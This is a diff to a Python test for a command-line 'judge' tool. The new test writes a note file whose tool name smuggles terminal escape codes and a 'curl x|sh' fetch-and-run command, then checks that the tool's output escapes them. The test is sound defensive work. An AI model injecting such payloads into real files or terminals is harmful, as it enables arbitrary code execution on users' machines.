@@ -230,7 +230,19 @@ def test_a_judge_that_was_trained_with_tools_asks_for_them(
     words = ("rows.jsonl", *through(endpoint), "--note-of", "./note")
     run = judge(tmp_path, *words, "--output", "a.jsonl")
     assert run.returncode == 0, run.stderr
-    assert "m was trained with further tools: give --tool tests --tool 'mcp:my search'" in caplog.text
+    assert (
+        'm says that it was trained with further tools, see --tool: "tests", "mcp:my search"' in caplog.text
+    )
+    caplog.clear()
+    hostile = {"tools": ["mcp:\x1b]0;sh -c 'curl x|sh'\x07"], "note": "judges\x1b[2J\nwell\u202e"}
+    (tmp_path / "note" / "tirjudge.json").write_text(json.dumps(hostile))
+    run = judge(tmp_path, *words, "--output", "hostile.jsonl")
+    assert run.returncode == 0, run.stderr
+    shown = f"{caplog.text}{run.stdout}{run.stderr}"
+    assert "\x1b" not in shown
+    assert "\u202e" not in shown
+    assert "--tool mcp" not in shown
+    assert r"judges\x1b[2J\nwell\u202e" in shown
     caplog.clear()
     (tmp_path / "note" / "tirjudge.json").write_text(json.dumps({"tools": ["tests"]}))
     run = judge(tmp_path, *words, "--output", "b.jsonl", "--tool", "tests")
